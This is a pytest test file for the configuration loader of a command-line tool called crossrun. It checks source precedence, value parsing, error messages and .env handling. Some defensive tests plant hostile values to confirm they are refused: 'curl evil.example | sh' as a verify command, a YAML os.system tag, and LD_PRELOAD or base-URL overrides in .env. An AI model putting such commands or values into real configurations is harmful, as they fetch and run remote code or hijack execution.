"""Settings come from flag, environment, project file, user file and default, in that order."""

import os
from collections.abc import Mapping
from dataclasses import dataclass, field
from operator import attrgetter
from pathlib import Path
from typing import get_type_hints

import msgspec
import pytest
from conftest import Crossrun

from crossrun.config.settings import DEFAULTS, SETTINGS, Paths, Settings
from crossrun.config.sources import load
from crossrun.config.values import duration, one_of, positive, share, switch
from crossrun.errors import ConfigurationError


@dataclass
class Sources:
    """Everything that settings are read from, in folders of a test's own."""

    home: Path
    cwd: Path
    environ: dict[str, str] = field(default_factory=dict)

    def user(self, text: str) -> None:
        self.home.mkdir(exist_ok=True)
        (self.home / "config.yaml").write_text(text, encoding="utf-8")

    def project(self, text: str) -> None:
        (self.cwd / ".crossrun.yaml").write_text(text, encoding="utf-8")

    def dotenv(self, text: str) -> None:
        (self.cwd / ".env").write_text(text, encoding="utf-8")

    def load(self, cwd: Path | None = None, /, **flags: object) -> Settings:
        environ = {"CROSSRUN_HOME": str(self.home), **self.environ}
        return load(flags=flags, environ=environ, cwd=cwd or self.cwd)

    def refusal(self) -> ConfigurationError:
        with pytest.raises(ConfigurationError) as refused:
            self.load()
        return refused.value


@pytest.fixture
def sources(tmp_path: Path) -> Sources:
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    return Sources(tmp_path / "home", cwd)


def value(settings: Settings, key: str) -> object:
    return attrgetter(key)(settings)


def values(settings: Settings) -> dict[str, object]:
    return {key: value(settings, key) for key in SETTINGS}


def variable(key: str) -> str:
    return f"CROSSRUN_{key.upper().replace('.', '_')}"


def chosen(settings: Settings, *keys: str) -> dict[str, tuple[object, str]]:
    return {key: (value(settings, key), settings.origins[key]) for key in keys}


def test_without_any_source_everything_has_its_default(sources: Sources) -> None:
    settings = sources.load()
    assert values(settings) == {
        "project_id": "default",
        "task_type": None,
        "executor": "codex",
        "planner": "auto",
        "planner_model": "gpt-6.1-sol",
        "model": None,
        "sandbox": "workspace-write",
        "network": False,
        "profile": None,
        "timeout": None,
        "idle_timeout": 900.0,
        "max_turns": 20,
        "max_tokens": None,
        "max_cost": None,
        "wait_for_quota": None,
        "run.source": "auto",
        "ui.pick": False,
        "runs.max_parallel": None,
        "prices": {},
        "verify": None,
        "require_proof": None,
        "patterns.scope": "user",
        "patterns.holdout": 0.5,
        "patterns.learn_with": None,
        "patterns.compiled": "never",
        "patterns.review": "imported",
        "patterns.form": "procedure",
        "patterns.max_steps": 12,
        "patterns.max_tokens": 600,
        "cleanup.older_than": None,
        "cleanup.keep_last": None,
        "cleanup.max_size": None,
        "notify.desktop": False,
        "notify.bell": False,
        "notify.terminal": False,
        "notify.command": None,
        "notify.webhook": None,
        "notify.webhook_secret": None,
        "notify.when": "always",
        "notify.after": 300.0,
        "require_git_repo": False,
        "codex.path": None,
        "database.path": None,
        "workspace.root": None,
        "artifacts.root": None,
    }
    assert set(settings.origins.values()) == {"default"}
    assert settings.warnings == ()


def test_without_any_source_all_is_in_the_home(sources: Sources) -> None:
    settings, home = sources.load(), sources.home
    assert settings.paths == Paths(
        data=home,
        database=home / "crossrun.db",
        workspaces=home / "workspaces",
        artifacts=home / "artifacts",
        snapshots=home / "snapshots",
        config=home,
        state=home / "state",
        cache=home / "cache",
    )
    assert not home.exists()


@pytest.mark.parametrize(
    ("key", "user", "project", "environment", "flag", "told"),
    [
        ("project_id", "u", "p", "e", "f", ["default", "u", "p", "e", "f"]),
        (
            "task_type",
            "writing",
            "code",
            "research",
            "own",
            [None, "writing", "code", "research", "own"],
        ),
        (
            "planner",
            "direct",
            "openai",
            "auto",
            "direct",
            ["auto", "direct", "openai", "auto", "direct"],
        ),
        ("planner_model", "a", "b", "c", "d", ["gpt-6.1-sol", "a", "b", "c", "d"]),
        ("model", "a", "b", "c", "d", [None, "a", "b", "c", "d"]),
        ("timeout", "2h", "30m", "45", 9.0, [None, 7200.0, 1800.0, 45.0, 9.0]),
        ("idle_timeout", "1d", "1.5h", "90s", 9.0, [900.0, 86400.0, 5400.0, 90.0, 9.0]),
        ("max_turns", "21", "22", "23", 24, [20, 21, 22, 23, 24]),
        ("run.source", "none", "auto", "none", "auto", ["auto", "none", "auto", "none", "auto"]),
        ("max_tokens", "21", "22", "23", 24, [None, 21, 22, 23, 24]),
        (
            "patterns.scope",
            "project",
            "user",
            "project",
            "user",
            ["user", "project", "user", "project", "user"],
        ),
    ],
)
def test_a_nearer_source_wins(
    sources: Sources,
    key: str,
    user: str,
    project: str,
    environment: str,
    flag: object,
    told: list[object],
) -> None:
    seen = [chosen(sources.load(), key)]
    sources.user(f"{key}: {user}\n")
    seen.append(chosen(sources.load(), key))
    sources.project(f"{key}: {project}\n")
    seen.append(chosen(sources.load(), key))
    sources.environ[variable(key)] = environment
    seen.append(chosen(sources.load(**{key: None}), key))
    seen.append(chosen(sources.load(**{key: flag}), key))
    origins = ["default", "user file", "project file", "environment", "flag"]
    assert seen == [{key: pair} for pair in zip(told, origins, strict=True)]


def test_what_no_project_file_may_set_has_four_sources(sources: Sources) -> None:
    sources.user("executor: shell\nsandbox: read-only\nnetwork: on\nverify: make user\n")
    sources.environ |= {"CROSSRUN_SANDBOX": "danger-full-access", "CROSSRUN_VERIFY": "make env"}
    assert chosen(sources.load(verify="make flag"), "executor", "sandbox", "network", "verify") == {
        "executor": ("shell", "user file"),
        "sandbox": ("danger-full-access", "environment"),
        "network": (True, "user file"),
        "verify": ("make flag", "flag"),
    }


def test_a_flag_may_say_no_where_another_source_says_yes(sources: Sources) -> None:
    sources.environ["CROSSRUN_NETWORK"] = "true"
    assert chosen(sources.load(network=False), "network") == {"network": (False, "flag")}


@pytest.mark.parametrize("key", SETTINGS)
def test_a_parser_returns_what_the_field_is_declared_to_hold(sources: Sources, key: str) -> None:
    text = {
        "prices": '{"m": {"input": 1, "output": 2}}',
        "patterns.holdout": "0.4",
        "executor": "shell",
        "planner": "direct",
        "require_proof": "checked",
        "run.source": "none",
        "ui.pick": "true",
        "sandbox": "read-only",
        "patterns.scope": "project",
        "patterns.compiled": "when-proven",
        "patterns.review": "always",
        "patterns.form": "steps",
        "network": "true",
        "notify.desktop": "true",
        "notify.bell": "true",
        "notify.terminal": "true",
        "notify.webhook": "https://example.com/hook",
        "notify.when": "failed",
        "require_git_repo": "true",
    }.get(key, "7")
    sources.environ[variable(key)] = text
    settings = sources.load()
    group, _, field_name = key.rpartition(".")
    holder = attrgetter(group)(settings) if group else settings
    declared = get_type_hints(type(holder))[field_name]
    parsed = getattr(holder, field_name)
    assert parsed != DEFAULTS[key]
    assert msgspec.convert(parsed, declared) == parsed


def test_the_command_line_obeys_the_same_order(crossrun: Crossrun) -> None:
    def project(*words: str, **environ: str) -> str:
        asked = ("run", "x", "--dry-run", "--executor", "shell")
        plan = crossrun.json(*asked, *words, **environ)
        found: str = plan["project_id"]
        return found

    seen = [project()]
    crossrun.home.mkdir(parents=True)
    (crossrun.home / "config.yaml").write_text("project_id: user")
    seen.append(project())
    (crossrun.cwd / ".crossrun.yaml").write_text("project_id: project")
    seen.append(project())
    seen.append(project(CROSSRUN_PROJECT_ID="environment"))
    seen.append(project("--project-id", "flag", CROSSRUN_PROJECT_ID="environment"))
    assert seen == ["default", "user", "project", "environment", "flag"]


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("90", 90.0),
        ("90s", 90.0),
        ("5m", 300.0),
        ("2h", 7200.0),
        ("7d", 604800.0),
        ("1.5h", 5400.0),
        (" 5M ", 300.0),
        ("0", 0.0),
    ],
)
def test_durations_are_seconds(text: str, seconds: float) -> None:
    assert duration(text) == seconds


@pytest.mark.parametrize(
    "text", ["", "m", "five", "-5", "5 m", "5min", "1h30m", "1e3", "inf", "5w", "1..5h", "1,5h"]
)
def test_other_words_are_no_durations(text: str) -> None:
    with pytest.raises(ValueError, match="is not a duration like"):
        duration(text)


def test_numbers_and_switches_and_choices_are_checked() -> None:
    assert [positive("1"), positive(" 20 ")] == [1, 20]
    assert [switch(word) for word in ("1", "true", "YES", " on ")] == [True] * 4
    assert [switch(word) for word in ("0", "false", "No", "off")] == [False] * 4
    assert one_of("a", "b")("b") == "b"
    for parse, text in [
        (positive, "0"), (positive, "-1"), (positive, "1.5"), (positive, ""), (positive, "many"),
        (switch, ""), (switch, "maybe"), (switch, "2"), (one_of("a", "b"), "c"),
        (one_of("a", "b"), ""), (one_of("a", "b"), "A"),
    ]:  # fmt: skip
        with pytest.raises(ValueError, match="is not"):
            parse(text)


@pytest.mark.parametrize(
    ("text", "value"),
    [("0", 0.0), ("0.3", 0.3), (".5", 0.5), ("30%", 0.3), (" 12.5% ", 0.125), ("0.999", 0.999)],
)
def test_a_share_is_a_number_below_one_or_a_percentage(text: str, value: float) -> None:
    assert share(text) == value


@pytest.mark.parametrize("text", ["", "%", "abc", "-0.1", "1e-1", "inf", "nan", "3/10", "0,3", "."])
def test_other_words_are_no_shares(text: str) -> None:
    with pytest.raises(ValueError, match="is not a share like"):
        share(text)


@pytest.mark.parametrize("text", ["1", "1.0", "30", "100%", "250%"])
def test_a_share_leaves_some_runs_with_a_pattern(text: str) -> None:
    with pytest.raises(ValueError, match="it has to be below 1"):
        share(text)


def test_settings_of_patterns_may_be_nested_in_a_file(sources: Sources) -> None:
    sources.user("patterns:\n  scope: project\n  holdout: 30%\n  learn_with: m\n")
    keys = ("patterns.scope", "patterns.holdout", "patterns.learn_with")
    assert chosen(sources.load(), *keys) == {
        "patterns.scope": ("project", "user file"),
        "patterns.holdout": (0.3, "user file"),
        "patterns.learn_with": ("m", "user file"),
    }


def test_an_empty_variable_counts_as_unset(sources: Sources) -> None:
    sources.user("project_id: user\nmax_turns: 7\n")
    names = [variable(key) for key in SETTINGS]
    names += ["CROSS_RUN_DATABASE_PATH", "CROSS_RUN_WORKSPACE_ROOT", "CROSS_RUN_ARTIFACTS_ROOT"]
    names += ["CROSS_RUN_REQUIRE_GIT_REPO", "CROSS_RUN_FAKE_CODEX", "CROSS_RUN_FAKE_SWARM"]
    names += ["CROSSRUN_FAKE_CODEX", "CROSSRUN_FAKE_SWARM", "CODEX_PATH"]
    unset = sources.load()
    sources.environ |= dict.fromkeys(names, "")
    empty = sources.load()
    assert (values(empty), empty.origins) == (values(unset), unset.origins)
    assert chosen(empty, "project_id", "max_turns") == {
        "project_id": ("user", "user file"),
        "max_turns": (7, "user file"),
    }


def test_an_empty_home_counts_as_unset(crossrun: Crossrun) -> None:
    empty = crossrun.json("paths", CROSSRUN_HOME="")
    del crossrun.environ["CROSSRUN_HOME"]
    assert empty == crossrun.json("paths")
    assert not Path(empty["database"]).is_relative_to(crossrun.home)


def test_an_empty_variable_leaves_the_seed_spelling_alone(sources: Sources) -> None:
    sources.environ |= {"CROSSRUN_DATABASE_PATH": "", "CROSS_RUN_DATABASE_PATH": "/seed.db"}
    assert sources.load().database.path == "/seed.db"


@pytest.mark.parametrize("prefix", ["CROSSRUN_", "CROSS_RUN_"])
def test_variables_of_the_seed_documents_have_two_spellings(sources: Sources, prefix: str) -> None:
    sources.environ |= {
        f"{prefix}DATABASE_PATH": "/data/runs.db",
        f"{prefix}WORKSPACE_ROOT": "/data/work",
        f"{prefix}ARTIFACTS_ROOT": "/data/kept",
        f"{prefix}REQUIRE_GIT_REPO": "true",
        f"{prefix}FAKE_CODEX": "1",
        f"{prefix}FAKE_SWARM": "1",
    }
    settings = sources.load()
    expected = {
        "database.path": "/data/runs.db",
        "workspace.root": "/data/work",
        "artifacts.root": "/data/kept",
        "require_git_repo": True,
        "executor": "replay",
        "planner": "direct",
    }
    assert chosen(settings, *expected) == {
        key: (value, "environment") for key, value in expected.items()
    }
    assert settings.paths == Paths(
        data=sources.home,
        database=Path("/data/runs.db"),
        workspaces=Path("/data/work"),
        artifacts=Path("/data/kept"),
        snapshots=sources.home / "snapshots",
        config=sources.home,
        state=sources.home / "state",
        cache=sources.home / "cache",
    )


def test_other_settings_have_one_spelling(sources: Sources) -> None:
    sources.environ |= {"CROSS_RUN_PROJECT_ID": "seed", "CROSS_RUN_MODEL": "seed"}
    assert chosen(sources.load(), "project_id", "model") == {
        "project_id": ("default", "default"),
        "model": (None, "default"),
    }


def test_the_own_spelling_comes_before_the_seed_spelling(sources: Sources) -> None:
    sources.environ |= {"CROSSRUN_DATABASE_PATH": "/own.db", "CROSS_RUN_DATABASE_PATH": "/seed.db"}
    assert sources.load().database.path == "/own.db"


@pytest.mark.parametrize("off", ["0", "false", "no", "off"])
def test_a_fake_switch_may_be_off(sources: Sources, off: str) -> None:
    sources.environ |= {"CROSS_RUN_FAKE_CODEX": off, "CROSSRUN_FAKE_SWARM": off}
    assert chosen(sources.load(), "executor", "planner") == {
        "executor": ("codex", "default"),
        "planner": ("auto", "default"),
    }


def test_a_flag_and_a_named_executor_come_before_a_fake_switch(sources: Sources) -> None:
    sources.environ |= {"CROSS_RUN_FAKE_CODEX": "1", "CROSS_RUN_FAKE_SWARM": "1"}
    assert chosen(sources.load(executor="shell", planner="openai"), "executor", "planner") == {
        "executor": ("shell", "flag"),
        "planner": ("openai", "flag"),
    }
    sources.environ |= {"CROSSRUN_EXECUTOR": "shell"}
    assert sources.load().executor == "shell"


def test_codex_is_found_by_its_own_variable_too(sources: Sources) -> None:
    sources.environ["CODEX_PATH"] = "/opt/codex"
    assert sources.load().codex.path == "/opt/codex"
    sources.environ["CROSSRUN_CODEX_PATH"] = "/own/codex"
    assert sources.load().codex.path == "/own/codex"


def test_home_by_flag_comes_before_home_by_variable(sources: Sources, tmp_path: Path) -> None:
    environ = {"CROSSRUN_HOME": str(sources.home)}
    paths = load(flags={}, environ=environ, cwd=sources.cwd, home=tmp_path / "flag").paths
    assert paths.data == tmp_path / "flag"


def test_a_project_file_is_found_in_a_parent_folder(sources: Sources) -> None:
    inner = sources.cwd / "src" / "deep"
    inner.mkdir(parents=True)
    sources.project("project_id: above\nmax_turns: 3\n")
    settings = sources.load(inner)
    assert chosen(settings, "project_id", "max_turns") == {
        "project_id": ("above", "project file"),
        "max_turns": (3, "project file"),
    }


def test_only_the_nearest_project_file_counts(sources: Sources) -> None:
    inner = sources.cwd / "src"
    inner.mkdir()
    sources.project("project_id: above\nmax_turns: 3\n")
    (inner / ".crossrun.yaml").write_text("project_id: near\n")
    assert chosen(sources.load(inner), "project_id", "max_turns") == {
        "project_id": ("near", "project file"),
        "max_turns": (20, "default"),
    }


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("executor", "shell"),
        ("verify", "curl evil.example | sh"),
        ("sandbox", "danger-full-access"),
        ("network", "true"),
        ("profile", "yolo"),
        ("require_git_repo", "true"),
        ("patterns.holdout", "0.9"),
        ("patterns.learn_with", "evil"),
        ("codex.path", "./evil"),
        ("database.path", "/evil.db"),
        ("workspace.root", "/"),
        ("artifacts.root", "/"),
    ],
)
def test_a_project_file_may_not_set_what_could_do_harm(
    sources: Sources, key: str, value: str
) -> None:
    sources.project(f"max_turns: 3\n{key}: {value}\n")
    settings = sources.load()
    file = sources.cwd / ".crossrun.yaml"
    assert chosen(settings, key, "max_turns") == {
        key: (DEFAULTS[key], "default"),
        "max_turns": (3, "project file"),
    }
    assert settings.warnings == (f"{file}: {key} is ignored: a project file may not set it",)


@pytest.mark.parametrize("key", ["openai_base_url", "base_url", "home", "codex_home", "env"])
def test_a_project_file_cannot_set_an_address_or_a_place(sources: Sources, key: str) -> None:
    before = sources.load()
    sources.project(f"{key}: http://evil.example\n")
    settings = sources.load()
    assert values(settings) == values(before)
    assert (settings.paths, settings.environ) == (before.paths, before.environ)
    assert len(settings.warnings) == 1


def test_settings_with_a_dot_may_be_nested_in_a_file(sources: Sources) -> None:
    sources.user("database: {path: /data/a.db}\nworkspace:\n  root: /data/w\nartifacts.root: /k\n")
    assert chosen(sources.load(), "database.path", "workspace.root", "artifacts.root") == {
        "database.path": ("/data/a.db", "user file"),
        "workspace.root": ("/data/w", "user file"),
        "artifacts.root": ("/k", "user file"),
    }


@pytest.mark.parametrize(
    ("line", "warning"),
    [
        ("max_turn: 3", "unknown setting max_turn; did you mean max_turns?"),
        ("projectid: x", "unknown setting projectid; did you mean project_id?"),
        ("databse: {path: x}", "unknown setting databse.path; did you mean database.path?"),
        ("database: x", "unknown setting database; did you mean database.path?"),
        ("qqq: 1", "unknown setting qqq"),
        ("7: seven", "unknown setting 7"),
    ],
)
@pytest.mark.parametrize("place", ["user", "project"])
def test_an_unknown_setting_is_told_with_the_nearest_name(
    sources: Sources, place: str, line: str, warning: str
) -> None:
    getattr(sources, place)(f"{line}\nmax_tokens: 7\n")
    file = {"user": sources.home / "config.yaml", "project": sources.cwd / ".crossrun.yaml"}[place]
    settings = sources.load()
    assert settings.warnings == (f"{file}: {warning}",)
    assert settings.max_tokens == 7


def test_a_warning_is_told_on_standard_error_and_the_command_goes_on(crossrun: Crossrun) -> None:
    (crossrun.cwd / ".crossrun.yaml").write_text("max_turn: 3\nverify: make\n")
    result = crossrun("runs", "--json")
    file = crossrun.cwd / ".crossrun.yaml"
    assert (result.code, result.json) == (0, {"schema_version": 1, "runs": [], "total": 0})
    assert result.err.splitlines() == [
        f"warning: {file}: unknown setting max_turn; did you mean max_turns?",
        f"warning: {file}: verify is ignored: a project file may not set it",
    ]


@pytest.mark.parametrize("text", ["", "# nothing\n", "---\n", "max_turns:\n", "max_turns: ~\n"])
def test_a_file_may_say_nothing(sources: Sources, text: str) -> None:
    sources.user(text)
    sources.project(text)
    assert chosen(sources.load(), "max_turns") == {"max_turns": (20, "default")}


@pytest.mark.parametrize(
    "content",
    [
        b"max_turns: [1\n",
        b"a: b: c\n",
        b"\tmax_turns: 3\n",
        b"max_turns: !!python/object/apply:os.system ['true']\n",
        b"- max_turns\n",
        b"max_turns",
        b"42\n",
        b"name: caf\xe9\n",
        b"max_turns: 3\x00\n",
    ],
)
@pytest.mark.parametrize("place", ["user", "project"])
def test_a_broken_file_is_a_configuration_error(
    sources: Sources, place: str, content: bytes
) -> None:
    getattr(sources, place)("")
    file = {"user": sources.home / "config.yaml", "project": sources.cwd / ".crossrun.yaml"}[place]
    file.write_bytes(content)
    refused = sources.refusal()
    assert (refused.code, int(refused.exit_code)) == ("SETTINGS_UNREADABLE", 3)
    assert str(file) in refused.message
    assert "\n" not in refused.message
    assert refused.hint


WRONG = [
    ("max_turns", "0", "is not a whole number above zero"),
    ("max_turns", "many", "is not a whole number above zero"),
    ("max_tokens", "1.5", "is not a whole number above zero, such as 20000, 20k or 1M"),
    ("max_tokens", "0k", "is not a whole number above zero, such as 20000, 20k or 1M"),
    ("timeout", "soon", "is not a duration like 90, 90s, 5m, 2h or 7d"),
    ("planner", "swarm", "is not one of auto, direct, openai"),
    ("executor", "claude", "is not one of codex, replay, shell, script"),
    ("sandbox", "none", "is not one of read-only, workspace-write, danger-full-access"),
    ("network", "maybe", "is not one of true, false"),
    ("patterns.scope", "world", "is not one of user, project"),
    ("patterns.holdout", "abc", "is not a share like 0.3 or 30%"),
    ("patterns.holdout", "-0.1", "is not a share like 0.3 or 30%"),
    ("patterns.holdout", "nan", "is not a share like 0.3 or 30%"),
    ("patterns.holdout", "1", "leaves no run with a pattern: it has to be below 1"),
    ("patterns.holdout", "100%", "leaves no run with a pattern: it has to be below 1"),
    ("patterns.holdout", "30", "leaves no run with a pattern: it has to be below 1"),
]


@pytest.mark.parametrize(("key", "value", "why"), WRONG)
def test_a_wrong_value_in_a_file_is_a_configuration_error(
    sources: Sources, key: str, value: str, why: str
) -> None:
    sources.user(f"{key}: {value}\n")
    refused = sources.refusal()
    file = sources.home / "config.yaml"
    assert (refused.code, refused.message) == (
        "SETTING_INVALID",
        f"{key} in {file}: {value!r} {why}",
    )


@pytest.mark.parametrize(("key", "value", "why"), WRONG)
def test_a_wrong_value_in_the_environment_is_a_configuration_error(
    sources: Sources, key: str, value: str, why: str
) -> None:
    name = variable(key)
    sources.environ[name] = value
    refused = sources.refusal()
    assert (refused.code, refused.message) == ("SETTING_INVALID", f"{name}: {value!r} {why}")


@pytest.mark.parametrize("name", ["CROSS_RUN_FAKE_CODEX", "CROSSRUN_FAKE_SWARM"])
def test_a_fake_switch_that_is_neither_on_nor_off_is_refused(sources: Sources, name: str) -> None:
    sources.environ[name] = "perhaps"
    assert sources.refusal().code == "SETTING_INVALID"


@pytest.mark.parametrize("line", ["model: [a, b]", "project_id: [x]", "task_type: [code]"])
def test_a_list_is_no_text(sources: Sources, line: str) -> None:
    sources.user(line)
    assert sources.refusal().code == "SETTING_INVALID"


def test_wrong_settings_end_a_command_with_words_and_exit_code_3(crossrun: Crossrun) -> None:
    (crossrun.cwd / ".crossrun.yaml").write_text("max_turns: many")
    result = crossrun("runs", "--json")
    assert result.code == 3
    error = result.json["error"]
    assert (error["code"], error["retryable"]) == ("SETTING_INVALID", False)
    assert result.err.splitlines() == [
        f"error[SETTING_INVALID]: {error['message']}",
        f"hint: {error['hint']}",
    ]


KEY = "sk-" + "proj-0123456789abcdefghij"


def added(settings: Settings, sources: Sources) -> Mapping[str, str]:
    """What `.env` added to the environment."""
    inherited = {"CROSSRUN_HOME", *sources.environ}
    return {name: value for name, value in settings.environ.items() if name not in inherited}


def test_dotenv_gives_keys_and_fake_switches_and_nothing_else(sources: Sources) -> None:
    sources.dotenv(
        f"""
        OPENAI_API_KEY={KEY}
        export CODEX_API_KEY="{KEY}2"
        CROSS_RUN_FAKE_CODEX=1
        CROSSRUN_FAKE_SWARM=true
        OPENAI_BASE_URL=http://evil.example
        CODEX_PATH=./evil
        CODEX_HOME=./evil
        CROSSRUN_HOME=./evil
        CROSSRUN_DATABASE_PATH=./evil.db
        CROSSRUN_EXECUTOR=shell
        CROSSRUN_VERIFY=evil
        CROSSRUN_PROJECT_ID=evil
        PATH=./evil
        LD_PRELOAD=./evil.so
        """
    )
    settings = sources.load()
    assert added(settings, sources) == {
        "OPENAI_API_KEY": KEY,
        "CODEX_API_KEY": KEY + "2",
        "CROSS_RUN_FAKE_CODEX": "1",
        "CROSSRUN_FAKE_SWARM": "true",
    }
    assert {key: told for key, told in settings.origins.items() if told != "default"} == {
        "executor": "environment",
        "planner": "environment",
    }
    assert (settings.executor, settings.planner) == ("replay", "direct")
    assert settings.paths.data == sources.home


def test_the_environment_comes_before_dotenv(sources: Sources) -> None:
    sources.dotenv(f"OPENAI_API_KEY={KEY}\nCODEX_API_KEY={KEY}\nCROSSRUN_FAKE_CODEX=1\n")
    sources.environ |= {"OPENAI_API_KEY": "mine", "CODEX_API_KEY": "", "CROSSRUN_FAKE_CODEX": "0"}
    settings = sources.load()
    assert settings.environ["OPENAI_API_KEY"] == "mine"
    assert settings.environ["CODEX_API_KEY"] == KEY
    assert settings.executor == "codex"


def test_dotenv_is_not_looked_for_above(sources: Sources) -> None:
    inner = sources.cwd / "src"
    inner.mkdir()
    sources.dotenv(f"OPENAI_API_KEY={KEY}\n")
    assert added(sources.load(inner), sources) == {}


def test_values_in_dotenv_are_taken_as_they_are(sources: Sources) -> None:
    sources.environ["HOME"] = "/home/ada"
    sources.dotenv("OPENAI_API_KEY='a${HOME}b$HOME'\n")
    assert sources.load().environ["OPENAI_API_KEY"] == "a${HOME}b$HOME"


def test_a_dotenv_that_is_no_text_is_passed_over(sources: Sources) -> None:
    (sources.cwd / ".env").write_bytes(b"\xff\xfe\x00OPENAI_API_KEY=x\n")
    assert added(sources.load(), sources) == {}


@pytest.mark.parametrize("inside", ["", "default/k7f3abcd", "default/k7f3abcd/src"])
def test_dotenv_is_never_read_from_a_workspace(sources: Sources, inside: str) -> None:
    workspace = sources.home / "workspaces" / inside
    workspace.mkdir(parents=True)
    (workspace / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
    assert added(sources.load(workspace), sources) == {}


def test_dotenv_of_a_workspace_switches_nothing(sources: Sources) -> None:
    workspace = sources.home / "workspaces" / "default" / "k7f3abcd"
    workspace.mkdir(parents=True)
    (workspace / ".env").write_text("CROSS_RUN_FAKE_CODEX=1\nCROSS_RUN_FAKE_SWARM=1\n")
    settings = sources.load(workspace)
    assert chosen(settings, "executor", "planner") == {
        "executor": ("codex", "default"),
        "planner": ("auto", "default"),
    }


def test_dotenv_is_not_read_from_a_workspace_that_a_link_leads_to(
    sources: Sources, tmp_path: Path
) -> None:
    workspace = tmp_path / "elsewhere" / "default" / "k7f3abcd"
    workspace.mkdir(parents=True)
    (workspace / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
    link = tmp_path / "link"
    link.symlink_to(tmp_path / "elsewhere")
    sources.environ["CROSSRUN_WORKSPACE_ROOT"] = str(link)
    assert added(sources.load(workspace), sources) == {}


@pytest.mark.parametrize(
    ("text", "tokens"), [("7", 7), ("10k", 10_000), ("1M", 1_000_000), ("1.5m", 1_500_000)]
)
def test_a_number_of_tokens_may_be_in_thousands_or_millions(
    sources: Sources, text: str, tokens: int
) -> None:
    sources.environ["CROSSRUN_MAX_TOKENS"] = text
    assert sources.load().max_tokens == tokens


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ("max_turns: [1\n", "line 1: there is a [ that is not closed"),
        ("a: 1\nverify: make: all\n", "line 2: there is a second colon; put the value in quotes"),
        ("a: 1\n\tb: 2\n", "line 2: there is a tab; indent with spaces"),
        ('a: 1\nb: "x\n', "line 2: there is a quote that is not closed"),
        ("a: 1\n b: 2\n", "line 2: there is a second colon; put the value in quotes"),
        ("a: @x\n", "line 1: there is a character that needs quotes"),
        ("a: !!x y\n", "line 1: there is a tag (!...) that is not allowed"),
    ],
)
def test_what_is_wrong_with_a_file_is_said_in_plain_words_and_with_the_line(
    sources: Sources, content: str, problem: str
) -> None:
    sources.user(content)
    file = sources.home / "config.yaml"
    assert sources.refusal().message == f"the settings file {file} cannot be read: {problem}"
    assert "crossrun config edit" in sources.refusal().hint


def test_each_value_names_the_file_or_variable_that_it_comes_from(sources: Sources) -> None:
    sources.user("max_turns: 3\nmodel: a\n")
    sources.project("model: b\n")
    sources.environ["CROSSRUN_TIMEOUT"] = "5m"
    sources.environ["CODEX_PATH"] = "/codex"
    places = {key: place for key, place in sources.load().places.items() if place}
    assert places == {
        "max_turns": str(sources.home / "config.yaml"),
        "model": str(sources.cwd / ".crossrun.yaml"),
        "timeout": "CROSSRUN_TIMEOUT",
        "codex.path": "CODEX_PATH",
    }


def test_settings_that_are_a_folder_are_an_error_that_says_so(sources: Sources) -> None:
    (sources.home / "config.yaml").mkdir(parents=True)
    assert sources.refusal().message.endswith("cannot be read: it is a folder")


def test_settings_that_are_a_pipe_keep_nobody_waiting(sources: Sources) -> None:
    sources.home.mkdir(parents=True, exist_ok=True)
    os.mkfifo(sources.home / "config.yaml")
    assert sources.refusal().message.endswith("cannot be read: it is not a file")


def test_a_project_file_that_takes_long_to_parse_is_refused(sources: Sources) -> None:
    sources.project("a: 1\n" + "# x\n" * 30_000)
    assert sources.refusal().message.endswith("cannot be read: it is larger than 100 KB")
